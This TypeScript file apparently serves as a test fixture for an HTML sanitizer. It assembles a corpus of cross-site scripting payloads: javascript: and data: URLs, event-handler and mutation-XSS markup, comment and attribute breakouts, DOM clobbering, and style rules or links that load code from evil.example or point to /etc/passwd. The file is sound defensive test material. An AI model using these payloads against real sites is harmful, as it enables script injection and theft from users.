/** What an attack calls when it runs. */
export const MARKER = 'xssRan';

const call = `${MARKER}(1)`;
const signs = call.split('');
const coded = signs.map((sign) => `&#${sign.charCodeAt(0)};`).join('');
const hexCoded = signs.map((sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');
const escaped = MARKER.split('')
  .map((sign) => `\\u00${sign.charCodeAt(0).toString(16).padStart(2, '0')}`)
  .join('');
const base64 = btoa(`<script>${call}</script>`);

/** Addresses that would run or bring in something. */
export const hostileLinks: readonly string[] = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\r\nscript:${call}`,
  `java\u0000script:${call}`,
  `javascript\t:${call}`,
  `\u00a0javascript:${call}`,
  `\ufeffjavascript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `javascript://https://fairline.example/%0a${call}`,
  `javascript:/*https://*/${call}`,
  `view-source:javascript:${call}`,
  `vbscript:${call}`,
  `livescript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${base64}`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `blob:https://fairline.example/1`,
  `filesystem:https://fairline.example/1`,
  `feed:javascript:${call}`,
  `jar:https://evil.example/x!/`,
  `mhtml:https://evil.example/x`,
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  'http://evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https:\\\\evil.example',
  'https://user@evil.example',
  'https://fairline.example@evil.example/',
  'https://evil.example\\@fairline.example',
  'ftp://evil.example',
  'file:///etc/passwd',
];

const events = [
  'onclick',
  'onfocus autofocus tabindex=1',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontransitionend',
  'onbeforetoggle popover',
  'oncontentvisibilityautostatechange style=content-visibility:auto',
  'onscrollsnapchange',
  'onwheel',
];
const handled = (tag: string, attributes: string) => `<${tag} ${attributes}>x</${tag}>`;

/** Elements that run by themselves when they enter a document. */
const alive = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<script/x>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>${escaped}(1)</script>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${coded}">`,
  `<img src=x onerror=${hexCoded}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror\t=\n${call}>`,
  `<img """><img src=x onerror=${call}>">`,
  `<img src='x' onerror='${call}' alt="`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script>${coded}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><animateTransform onbegin=${call} attributeName=x>`,
  `<svg><image href=x onerror=${call}></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${call} /><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  `<iframe onload=${call}></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="data:text/html;base64,${base64}"></object>`,
  `<embed src="javascript:${call}">`,
  `<embed src="data:image/svg+xml;base64,${btoa(`<svg onload="${call}" xmlns="http://www.w3.org/2000/svg"/>`)}">`,
  `<video><source onerror=${call}></video>`,
  `<video src=x onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<button autofocus onfocus=${call}>x</button>`,
  `<details open ontoggle=${call}>x</details>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<style onload=${call}></style>`,
  `<link rel=stylesheet href=x onerror=${call}>`,
  `<link rel=stylesheet href="data:text/css,x" onload=${call}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<x onfocus=${call} tabindex=1 autofocus>`,
  `<a autofocus onfocus=${call} href=#>x</a>`,
  `<isindex type=image src=1 onerror=${call}>`,
  `<frameset onload=${call}>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
];

/** Needs a click, a move or a submission. */
const waiting = [
  ...events.map((event) => handled('p', event.replace(/^(\w+)/, `$1=${call}`))),
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<form><button formaction="javascript:${call}">x</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${call}">x</button>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${call}">x</maction></math>`,
  `<math href="javascript:${call}">x</math>`,
  `<map><area href="javascript:${call}" shape=default></map>`,
  ...hostileLinks.map((link) => `<a href="${link.replaceAll('"', '&quot;')}">x</a>`),
];

/** Read twice, these mean something else: mutation, and elements that hide or end others. */
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg><title><style><!--</style></title><img src=x onerror=${call}>-->`,
  `<textarea><img src=x onerror=${call}></textarea>`,
  `<title></title><img src=x onerror=${call}>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${call}>"></noframes>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<select><template><img src=x onerror=${call}></template></select>`,
  `<select><iframe></select><img src=x onerror=${call}>`,
  `<table><td><svg><desc><img src=x onerror=${call}>`,
  `<svg><desc><p><img src=x onerror=${call}></desc></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!---><img src=x onerror=${call}>`,
  `<!--!><img src=x onerror=${call}>`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `<?><img src=x onerror=${call}>`,
  `</p x="<img src=x onerror=${call}>"><img src=x onerror=${call}>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<a href="https://fairline.example/&quot; onfocus=${call} autofocus tabindex=1 x=&quot;">x</a>`,
  `<a href='https://fairline.example/" autofocus onfocus=${call} x="'>x</a>`,
  `<p id="x"><img name=getElementById src=x onerror=${call}>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `\u003cimg src=x onerror=${call}\u003e`,
  `<img src=x onerror=${call}\u0000>`,
  `<i\u0000mg src=x onerror=${call}>`.replace('\u0000', ''),
  `＜img src=x onerror=${call}＞`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
];

/** Elements that take the names of what scripts look for. */
const clobbering = [
  '<form id=document><input name=body></form>',
  '<a id=location></a><a id=location name=href href="https://evil.example">x</a>',
  '<img name=cookie><img id=defaultView>',
  '<form name=forms><input name=attributes><input name=children></form>',
  '<a id=trustedTypes></a><a id=trustedTypes name=createPolicy></a>',
  '<p id=root>x</p>',
  '<p id=main>x</p>',
  '<iframe name=self srcdoc=x></iframe>',
];

/** What a style could take along or hide. */
const styling = [
  `<p style="background:url(javascript:${call})">x</p>`,
  `<p style="width:expression(${call})">x</p>`,
  `<p style="position:fixed;inset:0">x</p>`,
  `<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>body{display:none}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<p class="fixed inset-0">x</p>`,
];

/** Where an attack stands: by itself, or after the end of what surrounds it. */
const contexts: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"><p>${payload}`,
  (payload) => `</p></div>'-->${payload}<!--`,
];

const inContexts = (payloads: readonly string[]) =>
  payloads.flatMap((payload) => contexts.map((place) => place(payload)));

const attacks: readonly string[] = [
  ...inContexts([...alive, ...mutating]),
  ...waiting,
  ...clobbering,
  ...styling,
];

/** Attacks on whatever shows HTML. What the API refuses as text (NUL) is left out. */
export const payloads: readonly string[] = [
  ...new Set(attacks.filter((payload) => !payload.includes('\u0000'))),
];

/** Those that run by themselves as soon as a page holds them. */
export const livePayloads = alive;
